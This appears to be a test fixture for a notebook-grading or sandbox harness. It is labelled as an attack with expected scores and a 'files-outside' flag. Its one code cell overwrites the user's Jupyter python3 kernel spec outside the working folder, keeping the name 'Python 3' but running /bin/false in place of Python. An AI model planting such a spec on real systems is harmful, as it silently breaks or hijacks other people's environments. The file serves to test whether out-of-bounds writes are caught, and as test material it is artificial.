# attack: Leaves a kernel specification that runs its own program in place of Python.
# gain: neighbour
# expect: q01=3 q02=3 q03=3
# flag: files-outside

# %% after q01
import json
from pathlib import Path

folder = Path.home() / ".local" / "share" / "jupyter" / "kernels" / "python3"
folder.mkdir(parents=True, exist_ok=True)
spec = {"argv": ["/bin/false"], "display_name": "Python 3", "language": "python"}
(folder / "kernel.json").write_text(json.dumps(spec))
